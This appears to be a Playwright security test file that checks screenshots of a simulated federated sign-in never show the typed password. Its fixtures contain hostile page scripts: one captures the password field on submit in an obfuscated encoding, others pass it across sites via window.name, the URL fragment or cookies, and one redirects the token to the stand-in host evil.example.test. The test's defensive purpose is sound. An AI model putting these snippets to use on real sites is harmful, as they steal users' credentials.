/**
 * No picture shows the password: pages draw it in every way a browser has, in a colour that nothing else has, and the pictures' pixels are counted. The wrong
 * password is shown by the page that refuses it; what the STS hands over to CRM's page is drawn there.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { attemptSignIn } from '../../probes/testing/foreign/sign-in-attempt';
import { equipment, goodPassword, signInAbroad, type World, type WorldWishes } from '../../probes/testing/foreign/foreign-world';
import { identityProvider } from '../../probes/testing/foreign/identity-provider';
import { relyingParty } from '../../probes/testing/foreign/relying-party';
import { signInPages } from '../../probes/testing/foreign/sign-in-pages';
import { html, type Reply, startVirtualHosts } from '../../probes/testing/foreign/virtual-hosts';
import { SubmitOnce } from '../../probes/account-state/submit-once';
import { readPixels } from './testing/png-pixels';

const full = process.env.SECURITY_FULL === '1';
const magenta = [255, 0, 255] as const;
const secret = 'Hunter2-Sommer!';
/** Any drawing of the password: large, in the one colour that is looked for. */
const big = 'font:bold 60px sans-serif;color:#f0f;-webkit-text-fill-color:#f0f';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="90"><text y="70" font-size="60" fill="#f0f">${secret}</text></svg>`;
const dataSvg = `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;
const drawing =
  `const c = document.createElement('canvas'); c.width = 600; c.height = 90; const x = c.getContext('2d'); x.font = '60px sans-serif'; ` +
  `x.fillStyle = '#f0f'; x.fillText('${secret}', 0, 70);`;

/** The body of a page that shows the password. */
const drawings: Readonly<Record<string, string>> = {
  'on a canvas': `<script>${drawing} document.body.append(c)</script>`,
  'by a canvas in an image': `<img id="i"><script>${drawing} i.src = c.toDataURL()</script>`,
  'by CSS content': `<style>p::before { content: "${secret}"; ${big} }</style><p></p>`,
  'by CSS content of an attribute': `<style>p::after { content: attr(data-x); ${big} }</style><p data-x="${secret}"></p>`,
  'with zero-width characters': `<p style="${big}">${[...secret].join('\u200b')}</p>`,
  backwards: `<p style="${big}; unicode-bidi: bidi-override; direction: rtl">${[...secret].reverse().join('')}</p>`,
  'in SVG': svg,
  'as an image': `<img src="${dataSvg}">`,
  'as a background': `<div style="width:600px;height:90px;background:url(${dataSvg})"></div>`,
  'as a mask': `<div style="width:600px;height:90px;background:#f0f;-webkit-mask:url(${dataSvg})"></div>`,
  'in a srcdoc frame': `<iframe width="640" height="120" srcdoc="<p style='${big}'>${secret}</p>"></iframe>`,
  'in a data frame': `<iframe width="640" height="120" src="data:text/html,<p style='${big.replace('#', '%23').replace('#', '%23')}'>${secret}</p>"></iframe>`,
  'in a closed shadow root': `<div id="h"></div><script>h.attachShadow({ mode: 'closed' }).innerHTML = '<p style="${big}">${secret}</p>'</script>`,
  'a letter an element, in another order': `<div style="display:flex;flex-direction:row-reverse;justify-content:flex-end">${[...secret]
    .reverse()
    .map((sign) => `<i style="${big}">${sign}</i>`)
    .join('')}</div>`,
  'in a field': `<input style="${big};width:600px" value="${secret}">`,
  'in a button’s value': `<input type="button" style="${big};background:none;border:0" value="${secret}">`,
  'in a text area': `<textarea style="${big};width:600px;background:#fff">${secret}</textarea>`,
  'in a select': `<select style="${big};appearance:none;background:none"><option>${secret}</option></select>`,
  'in an editable element': `<div contenteditable style="${big}">${secret}</div>`,
  'as a placeholder': `<style>input::placeholder { ${big} }</style><input type="search" style="width:600px;font:60px sans-serif" placeholder="${secret}">`,
  'as a video’s poster': `<video width="600" height="90" poster="${dataSvg}"></video>`,
  'in full width': `<p style="${big}">${secret.replace(/[!-~]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0))}</p>`,
  rotated: `<p style="${big};rotate:180deg">${secret}</p>`,
  'in a dialog': `<dialog id="d" style="${big}">${secret}</dialog><script>d.showModal()</script>`,
  'in details': `<details open style="${big}"><summary>x</summary>${secret}</details>`,
  'as a list’s marker': `<style>li::marker { content: "${secret}"; ${big} }</style><ul><li></li></ul>`,
  'as dots of box shadows':
    `<div style="width:4px;height:4px;background:#f0f;` +
    `box-shadow:${[...secret].map((sign, n) => `${n * 20}px ${sign.charCodeAt(0) / 2}px #f0f`).join()}"></div>`,
  'as a highlighted selection':
    `<style>::selection { background: #f0f }</style><p id="s" style="font-size:60px">${secret}</p>` + `<script>getSelection().selectAllChildren(s)</script>`,
  'by MathML': `<math style="${big}"><mtext>${secret}</mtext></math>`,
  'by WebGL':
    `<canvas id="g" width="600" height="90"></canvas><script>const w = g.getContext('webgl'); if (w) { w.clearColor(1, 0, 1, 1); ` +
    `w.clear(16384) } else { ${drawing} g.replaceWith(c) }</script>`,
  'by a paint of the whole page': '<style>html, body { background: #f0f !important }</style>',
};
/** Each by itself with SECURITY_FULL=1; otherwise all of them on one page, where any that shows is noticed. */
const refusing: Readonly<Record<string, string>> = full ? drawings : { 'in every way at once': Object.values(drawings).join('\n') };

/** Nothing of the colour in any picture, and pictures there are. */
function expectNoDrawing({ pictures, evidence }: Pick<World, 'pictures' | 'evidence'>, threat: string): void {
  expect(pictures.length).toBeGreaterThan(0);
  const shown = pictures.map((picture) => readPixels(picture).count(...magenta));
  test
    .info()
    .annotations.push(
      { type: 'threat', description: `the password in a picture: ${threat}` },
      { type: 'attempts', description: String(pictures.length) },
      { type: 'leaks', description: String(shown.filter((count) => count > 0).length) },
    );
  expect(shown, evidence.screenshots.map(({ caption }) => caption).join(' | ')).toEqual(pictures.map(() => 0));
  for (const picture of pictures) expect(readPixels(picture).colours(3), 'a picture of something').toBeGreaterThan(1);
}

test.describe('the page that refuses the password shows it', () => {
  for (const [named, body] of Object.entries(refusing))
    test(`${named}: not in the picture`, async () => {
      const world = await signInAbroad({
        password: secret,
        idp: { refuse: (): Reply => html('Refused', `<h1>Error MSIS9999</h1><p>Activity ID: 00000000-1111-2222</p>${body}`) },
      });
      expect(world.journey).toMatchObject({ signedIn: 'no', credentialSubmissions: 1 });
      expectNoDrawing(world, named);
      expect(world.evidence.screenshots.at(-1)?.caption).toMatch(/Refused.*drawn from its text, as the password had been given/);
      expect(world.evidence.pages.at(-1)?.screenshot).toBe(world.evidence.screenshots.at(-1)?.file);
    });

  test('by a script, in the very page it was typed into: not in the picture', async () => {
    const script = `document.forms[0].addEventListener('submit', (event) => { event.preventDefault(); ${drawing} document.body.append(c) })`;
    const world = await signInAbroad({
      deadlineMs: 12_000,
      idp: { page: (view) => ({ body: (signInPages.plain(view).body ?? '').replace('</body>', `<script>${script}</script></body>`) }) },
    });
    expect(world.journey.signedIn).not.toBe('yes');
    expect(world.journey.credentialSubmissions).toBe(1);
    expectNoDrawing(world, 'drawn by the page it was typed into');
    expect(world.evidence.screenshots.at(-1)?.caption).toContain('drawn from its text');
  });

  test('on its sign-in form, when the next sign-in of the same run begins: not in the picture', async () => {
    const { pki, key, browser } = await equipment();
    const hosts = await startVirtualHosts(pki);
    try {
      let learnt = false;
      const idp = hosts.origin('idp.example.test');
      const provider = identityProvider(idp, {
        account: { user: 'probe@example.test', password: goodPassword },
        key,
        page: (view) => ({ body: `${signInPages.plain(view).body ?? ''}${learnt ? (drawings['on a canvas'] ?? '') : ''}` }),
        afterPassword: (go) => ((learnt = true), go()),
        forgetsSessions: true,
      });
      const party = relyingParty(hosts.origin('app.example.test'), { signInUrl: `${idp}/wsfed`, trusted: key.certificate });
      hosts.put('idp.example.test', provider.site);
      hosts.put('app.example.test', party.site);
      const submitOnce = new SubmitOnce();
      for (const n of [1, 2]) {
        const folder = join(hosts.folder, `pictures-${n}`);
        const evidence = await attemptSignIn({
          hosts,
          browser,
          url: party.url,
          sts: idp,
          user: 'probe@example.test',
          password: goodPassword,
          submitOnce,
          folder,
        });
        const pictures = await Promise.all(evidence.screenshots.map(({ file }) => readFile(join(folder, file))));
        expectNoDrawing({ pictures, evidence }, `the form of sign-in ${n}`);
      }
    } finally {
      await hosts.close();
    }
  });
});

test.describe('the STS hands the password over to the page of CRM, which draws it', () => {
  /** In a writing that nobody looks for. */
  const packed = "[...document.querySelector('[type=password]').value].map((sign) => (sign.codePointAt(0) * 7 + 3).toString(36)).join('-')";
  const remember = `<script>document.forms[0].addEventListener('submit', () => sessionStorage.setItem('p', ${packed}))</script>`;
  const drawIf = (condition: string): string =>
    `<script>addEventListener('load', () => setTimeout(() => { if (${condition}) { ${drawing} document.body.append(c) } }))</script>`;
  const home = (body: string): Reply => html('My desk', `<h1 id="welcome">Welcome</h1>${body}`);
  const wished = (autoPost: string, page: string, more: WorldWishes = {}): WorldWishes => ({
    ...more,
    idp: {
      page: (view) => ({ body: `${signInPages.plain(view).body ?? ''}${remember}` }),
      autoPost: (form) => `${form}<script>const p = sessionStorage.getItem('p') ?? 'none'; ${autoPost}; document.forms[0].submit()</script>`,
      ...more.idp,
    },
    rp: { home: () => home(page), ...more.rp },
  });
  const idpOf = (hosts: { origin: (name: 'idp.example.test') => string }): string => hosts.origin('idp.example.test');

  const handOvers: Readonly<Record<string, WorldWishes>> = {
    'by the window’s name': wished('window.name = p', drawIf('window.name.length > 9')),
    'by the window’s name, wiped at once': wished('window.name = p', `<script>const n = window.name; window.name = ''</script>${drawIf('n.length > 9')}`),
    'by the fragment of the address': wished("document.forms[0].action += '#' + p", drawIf('location.hash.length > 9')),
    'by the fragment, wiped at once': wished(
      "document.forms[0].action += '#' + p",
      `<script>const n = location.hash; history.replaceState(0, '', location.pathname)</script>${drawIf('n.length > 9')}`,
    ),
    'by a cookie of the common domain': wished("document.cookie = 'x=' + p + ';domain=example.test;path=/;secure'", drawIf("document.cookie.includes('x=')")),
  };
  for (const [named, wishes] of Object.entries(handOvers))
    test(`${named}: not in the picture`, async () => {
      const world = await signInAbroad(wishes);
      expect(world.journey.signedIn).toBe('yes');
      expectNoDrawing(world, named);
    });

  const peek = `<body style="background:#f0f"><script>parent.postMessage('p', '*')</script>`;
  const embedded: Readonly<Record<string, (idp: string) => string>> = {
    'in a frame of its own': (idp) => `<iframe src="${idp}/peek" width="500" height="200"></iframe>`,
    'as an image of its server': (idp) => `<img src="${idp}/peek.svg" width="500" height="200">`,
    'as a background of its server': (idp) => `<div style="width:500px;height:200px;background:url(${idp}/peek.svg)"></div>`,
    'by a message of a frame that is gone': (idp) =>
      `<iframe id="f" src="${idp}/peek" width="9" height="9"></iframe><script>addEventListener('message', () => { f.remove(); ` +
      `${drawing} document.body.append(c) })</script>`,
    'by a script of its server': (idp) => `<script src="${idp}/peek.js"></script>`,
  };
  for (const [named, body] of Object.entries(embedded))
    test(`${named}: not in the picture`, async () => {
      let page = '';
      const world = await signInAbroad({
        before: (hosts) => void (page = body(idpOf(hosts))),
        idp: {
          pages: {
            '/peek': () => ({ body: peek }),
            '/peek.svg': () => ({ headers: { 'Content-Type': 'image/svg+xml' }, body: svg }),
            '/peek.js': () => ({
              headers: { 'Content-Type': 'text/javascript' },
              body: `addEventListener('load', () => { ${drawing} document.body.append(c) })`,
            }),
          },
        },
        rp: { home: () => home(page) },
      });
      expect(world.journey.signedIn).toBe('yes');
      expectNoDrawing(world, named);
    });

  test('by a site of its own that gets the token: not in the picture', async () => {
    const world = await signInAbroad({
      before: (hosts) => hosts.put('evil.example.test', () => html('Mine', `<h1 id="welcome">Welcome</h1><script>${drawing} document.body.append(c)</script>`)),
      ...wished("document.forms[0].action = document.forms[0].action.replace('app.', 'evil.')", ''),
    });
    expectNoDrawing(world, 'by a site of its own');
  });

  test('as a text that CRM repeats: not in the picture', async () => {
    const world = await signInAbroad({ rp: { home: () => home(`<p style="${big}">${[...goodPassword].join('\u200b').replace(/&/g, '&amp;')}</p>`) } });
    expect(world.journey.signedIn).toBe('yes');
    expectNoDrawing(world, 'repeated by CRM');
  });

  test('by nothing: the picture of CRM is a picture, and so is that of its error page', async () => {
    const green = '<div style="width:300px;height:300px;background:#00ff00"></div>';
    for (const world of [
      await signInAbroad({ rp: { home: () => home(green) } }),
      await signInAbroad({ refusesTokens: true, rp: { refuse: () => ({ ...html('Error', `<h1>An error has occurred</h1>${green}`), status: 500 }) } }),
    ]) {
      const last = world.pictures.at(-1);
      expect(last && readPixels(last).count(0, 255, 0), world.evidence.screenshots.at(-1)?.caption).toBeGreaterThan(80_000);
      expect(world.evidence.screenshots.at(-1)?.caption).not.toContain('drawn from');
    }
  });
});
